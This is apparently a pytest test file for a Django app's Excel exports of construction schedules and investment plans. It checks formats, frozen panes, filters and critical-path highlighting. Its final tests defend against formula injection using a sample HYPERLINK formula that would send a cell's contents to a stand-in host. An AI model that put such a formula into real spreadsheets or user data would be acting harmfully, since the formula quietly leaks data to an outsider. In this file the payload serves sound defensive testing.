"""The xlsx exports, read back from the zip with the standard library.

A small reader below turns each sheet's XML into cells (value, type, style, whether a
formula is stored) and resolves the styles' number formats, fills and quote prefix, so
the tests check what Excel will see: real dates and numbers with their formats, frozen
panes, filters, highlighted critical rows, and text that is never a formula.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from dataclasses import dataclass, field
from decimal import Decimal
from xml.etree import ElementTree as ET
from zoneinfo import ZoneInfo

import pytest
from django.db.models import QuerySet
from xlsxwriter.utility import xl_col_to_name

from cornerstone.core.xlsx import formula_like
from cornerstone.plans.exports import (
    MILESTONE_SHEET,
    MONTHLY_SHEET,
    SCHEDULE_SHEET,
    monthly_plan_workbook_write,
    schedule_workbook_write,
)
from cornerstone.plans.models import InvestmentPlan, Task, TaskDependency
from cornerstone.plans.queries import (
    project_milestones,
    project_schedule,
    region_monthly_plans,
    region_monthly_totals,
)
from cornerstone.plans.services import (
    investment_plan_save,
    milestone_create,
    schedule_target_set,
)
from cornerstone.plans.task_services import PredecessorInput, task_create
from cornerstone.projects.models import StepDefinition

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
REL_NS = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
PKG_REL = "{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"
TODAY = dt.date(2026, 11, 24)
EXCEL_EPOCH = dt.date(1899, 12, 30)
# Excel's built-in number formats that matter here.
BUILTIN_FORMATS = {0: "General", 1: "0", 2: "0.00", 4: "#,##0.00", 14: "m/d/yy"}

SCHEDULE_HEADER = [
    "序号",
    "任务名称",
    "责任单位",
    "责任人",
    "工期（工作日）",
    "前置任务",
    "最早开始",
    "最早完成",
    "最迟开始",
    "最迟完成",
    "总时差（工作日）",
    "关键任务",
    "实际开始",
    "实际完成",
    "状态",
]
MONTHLY_HEADER = ["序号", "项目代码", "项目名称", "所在区划", "年度计划"] + [
    f"{m}月" for m in range(1, 13)
]


# A reader for what XlsxWriter writes ---------------------------------------------------


@dataclass(frozen=True)
class Style:
    num_format: str
    fill: str | None  # the solid fill's RGB, e.g. "FFFCE4D6"
    quote_prefix: bool
    bold: bool


@dataclass(frozen=True)
class Cell:
    kind: str  # "n" number, "s" shared string, "inlineStr", "b", "" for a blank
    raw: str | None
    style: Style
    formula: bool

    @property
    def text(self) -> str | None:
        return self.raw if self.kind in ("s", "inlineStr", "str") else None

    @property
    def number(self) -> float:
        assert self.kind == "n", self
        assert self.raw is not None
        return float(self.raw)

    @property
    def date(self) -> dt.date:
        assert self.style.num_format == "yyyy-mm-dd", self.style
        return EXCEL_EPOCH + dt.timedelta(days=self.number)


@dataclass
class Sheet:
    name: str
    xml: str
    cells: dict[str, Cell] = field(default_factory=dict)
    pane: dict[str, str] = field(default_factory=dict)
    autofilter: str | None = None
    merged: list[str] = field(default_factory=list)

    def __getitem__(self, ref: str) -> Cell:
        return self.cells[ref]

    def value(self, ref: str) -> str | float | None:
        cell = self.cells.get(ref)
        if cell is None or cell.raw is None:
            return None
        return cell.text if cell.text is not None else cell.number

    def row(self, number: int, columns: int) -> list[str | float | None]:
        return [self.value(f"{xl_col_to_name(c)}{number}") for c in range(columns)]

    @property
    def rows(self) -> int:
        return max((int(re.sub(r"[A-Z]+", "", ref)) for ref in self.cells), default=0)


def xml_parse(data: bytes | str) -> ET.Element:
    # The XML is what the code under test just wrote, not untrusted input.
    return ET.fromstring(data)  # noqa: S314


def _styles(book: zipfile.ZipFile) -> list[Style]:
    root = xml_parse(book.read("xl/styles.xml"))
    formats = dict(BUILTIN_FORMATS)
    for fmt in root.iterfind("m:numFmts/m:numFmt", NS):
        formats[int(fmt.get("numFmtId", "0"))] = fmt.get("formatCode", "")
    fills = []
    for fill in root.iterfind("m:fills/m:fill", NS):
        pattern = fill.find("m:patternFill", NS)
        colour = pattern.find("m:fgColor", NS) if pattern is not None else None
        solid = pattern is not None and pattern.get("patternType") == "solid"
        fills.append(colour.get("rgb") if solid and colour is not None else None)
    fonts = [font.find("m:b", NS) is not None for font in root.iterfind("m:fonts/m:font", NS)]
    return [
        Style(
            num_format=formats[int(xf.get("numFmtId", "0"))],
            fill=fills[int(xf.get("fillId", "0"))],
            quote_prefix=xf.get("quotePrefix") == "1",
            bold=fonts[int(xf.get("fontId", "0"))],
        )
        for xf in root.iterfind("m:cellXfs/m:xf", NS)
    ]


def _text_of(node: ET.Element | None) -> str:
    if node is None:
        return ""
    return "".join(t.text or "" for t in node.iter(f"{{{NS['m']}}}t"))


def workbook_read(data: bytes) -> dict[str, Sheet]:
    """Every sheet of an xlsx by name, in workbook order."""
    book = zipfile.ZipFile(io.BytesIO(data))
    styles = _styles(book)
    shared: list[str] = []
    if "xl/sharedStrings.xml" in book.namelist():
        root = xml_parse(book.read("xl/sharedStrings.xml"))
        shared = [_text_of(si) for si in root.iterfind("m:si", NS)]
    rels = {
        rel.get("Id"): rel.get("Target", "")
        for rel in xml_parse(book.read("xl/_rels/workbook.xml.rels")).iter(PKG_REL)
    }
    sheets: dict[str, Sheet] = {}
    workbook = xml_parse(book.read("xl/workbook.xml"))
    for entry in workbook.iterfind("m:sheets/m:sheet", NS):
        xml = book.read("xl/" + rels[entry.get(REL_NS)]).decode("utf-8")
        root = xml_parse(xml)
        sheet = Sheet(name=entry.get("name", ""), xml=xml)
        for c in root.iterfind("m:sheetData/m:row/m:c", NS):
            kind = c.get("t", "n")
            v = c.find("m:v", NS)
            raw: str | None
            if kind == "s":
                raw = shared[int(v.text or "0")] if v is not None else None
            elif kind == "inlineStr":
                raw = _text_of(c.find("m:is", NS))
            else:
                raw = v.text if v is not None else None
                kind = kind if v is not None else ""
            sheet.cells[c.get("r", "")] = Cell(
                kind=kind,
                raw=raw,
                style=styles[int(c.get("s", "0"))],
                formula=c.find("m:f", NS) is not None,
            )
        pane = root.find("m:sheetViews/m:sheetView/m:pane", NS)
        sheet.pane = dict(pane.attrib) if pane is not None else {}
        autofilter = root.find("m:autoFilter", NS)
        sheet.autofilter = autofilter.get("ref") if autofilter is not None else None
        sheet.merged = [m.get("ref", "") for m in root.iterfind("m:mergeCells/m:mergeCell", NS)]
        sheets[sheet.name] = sheet
    return sheets


def serial(day: dt.date) -> float:
    return float((day - EXCEL_EPOCH).days)


# Fixtures ------------------------------------------------------------------------------


@pytest.fixture
def today(time_machine):
    time_machine.move_to(
        dt.datetime(2026, 11, 24, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai")), tick=False
    )
    return TODAY


@pytest.fixture
def network(cast, ledger, geo, today):
    """小店区's project: one task started, a chain after it, a side task off the chain."""
    actor, project = cast.xiaodian_admin, ledger.xiaodian

    def task(name, duration, *links, **data):
        return task_create(
            actor=actor,
            project=project,
            data={"name": name, "duration": duration, **data},
            predecessors=[PredecessorInput(p.pk, kind, lag) for p, kind, lag in links],
        )

    dig = task(
        "土方开挖",
        10,
        department=geo.xiaodian_dept.pk,
        person="张工",
        actual_start="2026-11-16",
    )
    base = task("基础施工", 15, (dig, "FS", 0))
    frame = task("主体结构", 30, (base, "FS", 2))
    pipes = task("室外管网", 5, (base, "SS", 3))
    return {"dig": dig, "base": base, "frame": frame, "pipes": pipes}


def schedule_export(project, today) -> bytes:
    out = io.BytesIO()
    schedule_workbook_write(
        out=out,
        project=project,
        schedule=project_schedule(project=project, today=today),
        milestones=project_milestones(project=project, today=today),
        today=today,
    )
    return out.getvalue()


def monthly_export(actor, region, year) -> bytes:
    out = io.BytesIO()
    monthly_plan_workbook_write(
        out=out,
        region=region,
        year=year,
        plans=region_monthly_plans(actor=actor, region=region, year=year),
        totals=region_monthly_totals(actor=actor, region=region, year=year),
    )
    return out.getvalue()


# The schedule --------------------------------------------------------------------------


def test_the_schedule_sheet_has_its_titles_header_and_a_row_per_task(cast, ledger, network):
    schedule_target_set(actor=cast.xiaodian_admin, project=ledger.xiaodian, deadline="2027-12-31")
    sheets = workbook_read(schedule_export(ledger.xiaodian, TODAY))

    assert list(sheets) == [SCHEDULE_SHEET, MILESTONE_SHEET]
    sheet = sheets[SCHEDULE_SHEET]
    project = ledger.xiaodian
    assert sheet.value("A1") == f"{project.name}（{project.code}）倒排工期表"
    assert sheet.value("A2") == "投产时限：2027-12-31　　编制日期：2026-11-24"
    assert str(sheet.value("A3")).startswith("可按期完成（最早可于")
    assert {"A1:O1", "A2:O2", "A3:O3"} <= set(sheet.merged)
    assert sheet.row(4, 15) == SCHEDULE_HEADER
    assert all(sheet[f"{xl_col_to_name(c)}4"].style.bold for c in range(15))
    assert [sheet.value(f"B{r}") for r in range(5, 9)] == [
        "土方开挖",
        "基础施工",
        "主体结构",
        "室外管网",
    ]
    assert sheet.rows == 8


def test_a_task_row_holds_real_dates_numbers_and_its_status(cast, ledger, network):
    schedule_target_set(actor=cast.xiaodian_admin, project=ledger.xiaodian, deadline="2027-12-31")
    scheduled = project_schedule(project=ledger.xiaodian, today=TODAY).result
    assert scheduled is not None
    sheet = workbook_read(schedule_export(ledger.xiaodian, TODAY))[SCHEDULE_SHEET]

    # 土方开挖: started on Monday the 16th, ten working days, so due on Friday the 27th.
    dig = scheduled.tasks[network["dig"].pk]
    assert sheet.row(5, 6) == [1, "土方开挖", "小店区发展和改革局", "张工", 10, None]
    assert sheet["G5"].number == serial(dt.date(2026, 11, 16)) == 46342
    assert sheet["G5"].date == dig.early_start == dt.date(2026, 11, 16)
    assert sheet["H5"].date == dig.early_finish == dt.date(2026, 11, 27)
    assert sheet["I5"].date == dig.late_start
    assert sheet["J5"].date == dig.late_finish
    # A far deadline leaves the whole chain the same float: the least there is, so critical.
    assert sheet["K5"].number == dig.total_float > 0
    assert sheet.value("L5") == "是"
    assert sheet.value("L8") == "否"
    assert sheet["M5"].date == dt.date(2026, 11, 16)
    assert sheet["N5"].kind == ""  # not finished: a blank, still date-formatted
    assert sheet["N5"].style.num_format == "yyyy-mm-dd"
    assert sheet.value("O5") == "进行中"

    # 主体结构 follows 基础施工 two working days after it finishes.
    frame = scheduled.tasks[network["frame"].pk]
    assert sheet.value("F7") == "基础施工（FS+2）"
    assert sheet.value("F8") == "基础施工（SS+3）"
    assert sheet.value("F6") == "土方开挖（FS）"
    assert sheet["G7"].date == frame.early_start
    assert sheet["J7"].date == frame.late_finish
    assert sheet.value("O7") == "未开始"
    assert not any(cell.formula for cell in sheet.cells.values())


def test_critical_rows_are_highlighted_and_the_others_not(cast, ledger, network):
    sheet = workbook_read(schedule_export(ledger.xiaodian, TODAY))[SCHEDULE_SHEET]

    # Without a deadline the chain 土方开挖 → 基础施工 → 主体结构 has no float.
    for row in (5, 6, 7):
        assert sheet.value(f"L{row}") == "是"
        assert sheet.value(f"K{row}") == 0
        assert {sheet[f"{xl_col_to_name(c)}{row}"].style.fill for c in range(15)} == {"FFFCE4D6"}
    assert sheet.value("L8") == "否"
    assert sheet.value("K8") > 0
    assert {sheet[f"{xl_col_to_name(c)}8"].style.fill for c in range(15)} == {None}
    assert str(sheet.value("A3")).startswith("最早可于")
    assert sheet.value("A2") == "未设定完成时限　　编制日期：2026-11-24"


def test_the_header_is_frozen_and_filtered(cast, ledger, network):
    sheets = workbook_read(schedule_export(ledger.xiaodian, TODAY))

    sheet = sheets[SCHEDULE_SHEET]
    assert sheet.pane["state"] == "frozen"
    assert (sheet.pane["ySplit"], sheet.pane["xSplit"], sheet.pane["topLeftCell"]) == (
        "4",
        "2",
        "C5",
    )
    assert sheet.autofilter == "A4:O8"
    milestones = sheets[MILESTONE_SHEET]
    assert milestones.pane["state"] == "frozen"
    assert milestones.pane["ySplit"] == "1"
    assert milestones.autofilter == "A1:E1"


def test_an_infeasible_deadline_names_the_shortfall_and_the_chain(cast, ledger, network):
    schedule_target_set(
        actor=cast.xiaodian_admin, project=ledger.xiaodian, deadline="2026-12-31", label="完工"
    )
    result = project_schedule(project=ledger.xiaodian, today=TODAY).result
    assert result is not None and not result.feasible
    sheet = workbook_read(schedule_export(ledger.xiaodian, TODAY))[SCHEDULE_SHEET]

    assert sheet.value("A2") == "完工时限：2026-12-31　　编制日期：2026-11-24"
    line = sheet.value("A3")
    assert isinstance(line, str)
    assert line.startswith(f"按当前工期差{result.shortfall}个工作日")
    assert line.endswith("制约任务：土方开挖 → 基础施工 → 主体结构")
    assert sheet["A3"].style.bold
    assert sheet["K7"].number == -result.shortfall
    assert sheet["K7"].style.num_format == "0;[Red]-0"


def test_late_tasks_carry_their_flags(cast, ledger, today):
    actor, project = cast.xiaodian_admin, ledger.xiaodian
    schedule_target_set(actor=actor, project=project, deadline="2026-11-20")
    task_create(actor=actor, project=project, data={"name": "办理施工许可", "duration": 20})
    sheet = workbook_read(schedule_export(project, TODAY))[SCHEDULE_SHEET]

    assert sheet.value("A2") == (
        "投产时限：2026-11-20（时限已过，项目尚未开工）　　编制日期：2026-11-24"
    )

    assert sheet.value("O5") == "未开始（逾期、应开未开）"
    assert sheet["O5"].style.bold


def test_a_cycle_is_reported_instead_of_computed_dates(ledger, today):
    project = ledger.xiaodian
    first = Task.objects.create(project=project, name="甲任务", duration=3)
    second = Task.objects.create(project=project, name="乙任务", duration=4)
    TaskDependency.objects.create(task=second, predecessor=first)
    TaskDependency.objects.create(task=first, predecessor=second, kind="SS", lag=1)
    schedule = project_schedule(project=project, today=TODAY)
    assert schedule.error
    sheet = workbook_read(schedule_export(project, TODAY))[SCHEDULE_SHEET]

    assert sheet.value("A3") == f"无法排定工期：{schedule.error}"
    assert "甲任务 → 乙任务 → 甲任务" in str(sheet.value("A3"))
    assert sheet.row(5, 6) == [1, "甲任务", None, None, 3, "乙任务（SS+1）"]
    assert sheet.row(6, 6) == [2, "乙任务", None, None, 4, "甲任务（FS）"]
    for row in (5, 6):
        assert [sheet.value(f"{c}{row}") for c in "GHIJKLMN"] == [None] * 8
        assert sheet.value(f"O{row}") == "未开始"


def test_a_project_without_tasks_has_just_the_header(ledger, today):
    sheets = workbook_read(schedule_export(ledger.xiaodian, TODAY))

    sheet = sheets[SCHEDULE_SHEET]
    assert sheet.value("A3") == "尚未编排任务"
    assert sheet.row(4, 15) == SCHEDULE_HEADER
    assert sheet.rows == 4
    assert sheet.autofilter == "A4:O4"
    assert sheets[MILESTONE_SHEET].row(1, 5) == [
        "节点名称",
        "目标日期",
        "关联环节",
        "完成日期",
        "状态",
    ]


def test_the_milestone_sheet_lists_dates_steps_and_statuses(cast, ledger, today):
    actor, project = cast.xiaodian_admin, ledger.xiaodian
    step = StepDefinition.objects.order_by("stage__order", "order").first()
    assert step is not None
    milestone_create(
        actor=actor,
        project=project,
        data={"name": "完成施工图设计", "target_date": "2026-10-31", "achieved_date": "2026-11-05"},
    )
    milestone_create(
        actor=actor,
        project=project,
        data={"name": "主体封顶", "target_date": "2027-03-31"},
    )
    milestone_create(
        actor=actor,
        project=project,
        data={"name": "完成前期手续", "target_date": "2026-11-20", "step": step.pk},
    )
    sheet = workbook_read(schedule_export(project, TODAY))[MILESTONE_SHEET]

    assert sheet.row(2, 5)[0::2] == ["完成施工图设计", None, "逾期完成"]
    assert sheet["B2"].date == dt.date(2026, 10, 31)
    assert sheet["D2"].date == dt.date(2026, 11, 5)
    assert sheet.row(3, 5) == [
        "完成前期手续",
        serial(dt.date(2026, 11, 20)),
        step.name,
        None,
        "逾期未完成",
    ]
    assert sheet.row(4, 5) == ["主体封顶", serial(dt.date(2027, 3, 31)), None, None, "未到期"]
    assert sheet.autofilter == "A1:E4"


# The monthly plan table ----------------------------------------------------------------


@pytest.fixture
def plans(cast, ledger, today):
    actor = cast.taiyuan_admin
    months = ["80.25"] * 6 + ["120.30"] * 5 + ["117.30"]
    yingze = investment_plan_save(
        actor=actor, project=ledger.yingze, year=2027, annual_amount="1200.30", months=months
    )
    xiaodian = investment_plan_save(
        actor=actor,
        project=ledger.xiaodian,
        year=2027,
        annual_amount="24000",
        months=["2000"] * 12,
    )
    # Another year and another city: neither is in 太原市's 2027 table.
    investment_plan_save(
        actor=actor, project=ledger.xiaodian, year=2026, annual_amount="12", months=["1"] * 12
    )
    investment_plan_save(
        actor=cast.province_admin,
        project=ledger.pingcheng,
        year=2027,
        annual_amount="1200",
        months=["100"] * 12,
    )
    return {"xiaodian": xiaodian, "yingze": yingze}


def test_the_monthly_table_has_a_title_a_header_and_a_row_per_plan(cast, geo, ledger, plans):
    sheets = workbook_read(monthly_export(cast.taiyuan_admin, geo.taiyuan, 2027))

    assert list(sheets) == [MONTHLY_SHEET]
    sheet = sheets[MONTHLY_SHEET]
    assert sheet.value("A1") == "太原市2027年度重点项目月度投资计划（万元）"
    assert "A1:Q1" in sheet.merged
    assert sheet.row(2, 17) == MONTHLY_HEADER
    assert sheet.row(3, 17) == [
        1,
        ledger.xiaodian.code,
        "年产10万吨高端电子新材料项目",
        "小店区",
        24000,
        *[2000] * 12,
    ]
    assert sheet.row(4, 17) == [
        2,
        ledger.yingze.code,
        "迎泽区老旧小区改造项目",
        "迎泽区",
        1200.3,
        *[80.25] * 6,
        *[120.3] * 5,
        117.3,
    ]
    for c in range(4, 17):
        assert sheet[f"{xl_col_to_name(c)}4"].style.num_format == "#,##0.00"
    # Codes are text (a 24-digit code as a number would lose digits).
    assert sheet["B3"].kind == "inlineStr"


def test_the_total_row_sums_the_months_and_the_year(cast, geo, plans):
    sheet = workbook_read(monthly_export(cast.taiyuan_admin, geo.taiyuan, 2027))[MONTHLY_SHEET]

    assert sheet.rows == 5
    assert sheet.row(5, 17) == [
        "合计",
        None,
        None,
        None,
        25200.3,
        *[2080.25] * 6,
        *[2120.3] * 5,
        2117.3,
    ]
    assert "A5:D5" in sheet.merged
    assert sheet["E5"].style.num_format == "#,##0.00"
    assert sheet["E5"].style.bold


def test_the_monthly_table_freezes_header_and_three_columns_and_filters_the_plans(cast, geo, plans):
    sheet = workbook_read(monthly_export(cast.taiyuan_admin, geo.taiyuan, 2027))[MONTHLY_SHEET]

    assert sheet.pane["state"] == "frozen"
    assert (sheet.pane["ySplit"], sheet.pane["xSplit"], sheet.pane["topLeftCell"]) == (
        "2",
        "3",
        "D3",
    )
    assert sheet.autofilter == "A2:Q4"  # the 合计 row stays out of the sort


def test_a_province_table_names_city_and_county(cast, geo, ledger, plans):
    sheet = workbook_read(monthly_export(cast.province_admin, geo.shanxi, 2027))[MONTHLY_SHEET]

    assert sheet.value("A1") == "山西省2027年度重点项目月度投资计划（万元）"
    assert [sheet.value(f"D{r}") for r in (3, 4, 5)] == [
        "太原市小店区",
        "太原市迎泽区",
        "大同市平城区",
    ]
    assert sheet.value("E6") == 26400.3


def test_an_empty_region_has_the_header_and_a_zero_total(cast, geo, plans):
    sheet = workbook_read(monthly_export(cast.province_admin, geo.taiyuan, 2031))[MONTHLY_SHEET]

    assert sheet.value("A1") == "太原市2031年度重点项目月度投资计划（万元）"
    assert sheet.row(2, 17) == MONTHLY_HEADER
    assert sheet.row(3, 17) == ["合计", None, None, None, *[0] * 13]
    assert sheet.rows == 3
    assert sheet.autofilter == "A2:Q2"


def test_plans_may_be_any_iterable(cast, geo, ledger, plans):
    out = io.BytesIO()
    listed = list(region_monthly_plans(actor=cast.taiyuan_admin, region=geo.taiyuan, year=2027))
    monthly_plan_workbook_write(
        out=out, region=geo.taiyuan, year=2027, plans=listed, totals=[Decimal(1)] * 12
    )
    sheet = workbook_read(out.getvalue())[MONTHLY_SHEET]

    assert [sheet.value(f"C{r}") for r in (3, 4)] == [ledger.xiaodian.name, ledger.yingze.name]
    assert sheet.row(5, 17)[4:] == [25200.3, *[1] * 12]


def test_a_queryset_is_read_in_chunks(cast, geo, plans, monkeypatch):
    chunks = []
    iterator = QuerySet.iterator

    def spy(self, chunk_size=None):
        chunks.append(chunk_size)
        return iterator(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    sheet = workbook_read(monthly_export(cast.taiyuan_admin, geo.taiyuan, 2027))[MONTHLY_SHEET]

    assert chunks == [2000]
    assert sheet.rows == 5


def test_money_keeps_two_decimals(cast, geo, ledger, today):
    plan = InvestmentPlan(project=ledger.xiaodian, year=2027, annual_amount=Decimal("0.125"))
    for m in range(1, 13):
        setattr(plan, f"m{m}", Decimal("1234567.005") if m == 1 else None)
    out = io.BytesIO()
    monthly_plan_workbook_write(
        out=out, region=geo.taiyuan, year=2027, plans=[plan], totals=[Decimal(0)] * 12
    )
    sheet = workbook_read(out.getvalue())[MONTHLY_SHEET]

    assert sheet.row(3, 17)[4:7] == [0.13, 1234567.01, 0]


# Text is never a formula ---------------------------------------------------------------

DANGEROUS = '=HYPERLINK("http://example.com/x?leak="&A1,"点击查看")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", True),
        ("+86 351", True),
        ("-1", True),
        ("@SUM(A1)", True),
        ("\tx", True),
        ("\rx", True),
        ("项目=1", False),
        ("", False),
        ("＝全角", False),
    ],
)
def test_formula_like(text, expected):
    assert formula_like(text) is expected


def test_a_formula_in_a_project_name_stays_text_in_the_monthly_table(cast, geo, ledger, plans):
    ledger.xiaodian.name = DANGEROUS
    ledger.xiaodian.save()
    data = monthly_export(cast.taiyuan_admin, geo.taiyuan, 2027)
    sheet = workbook_read(data)[MONTHLY_SHEET]

    assert sheet.value("C3") == DANGEROUS
    assert sheet["C3"].kind == "inlineStr"
    assert sheet["C3"].style.quote_prefix
    assert not sheet["C4"].style.quote_prefix  # ordinary text is left as it is
    assert "<f>" not in sheet.xml and "<f " not in sheet.xml
    assert not any(cell.formula for cell in sheet.cells.values())


def test_formulas_in_names_stay_text_in_the_schedule(cast, ledger, geo, today):
    actor, project = cast.xiaodian_admin, ledger.xiaodian
    project.name = DANGEROUS
    project.save()
    first = task_create(
        actor=actor, project=project, data={"name": "=1+1", "duration": 2, "person": "@admin"}
    )
    task_create(
        actor=actor,
        project=project,
        data={"name": "-2+3", "duration": 2},
        predecessors=[PredecessorInput(first.pk)],
    )
    milestone_create(
        actor=actor, project=project, data={"name": "+SUM(1,2)", "target_date": "2027-01-15"}
    )
    sheets = workbook_read(schedule_export(project, TODAY))

    sheet = sheets[SCHEDULE_SHEET]
    assert str(sheet.value("A1")).startswith(DANGEROUS)
    assert sheet.value("B5") == "=1+1"
    assert sheet.value("D5") == "@admin"
    assert sheet.value("B6") == "-2+3"
    assert sheet["B6"].kind == "s"
    assert all(sheet[ref].style.quote_prefix for ref in ("A1", "B5", "D5", "B6"))
    assert sheets[MILESTONE_SHEET].value("A2") == "+SUM(1,2)"
    assert sheets[MILESTONE_SHEET]["A2"].style.quote_prefix
    for each in sheets.values():
        assert "<f>" not in each.xml and "<f " not in each.xml
        assert not any(cell.formula for cell in each.cells.values())
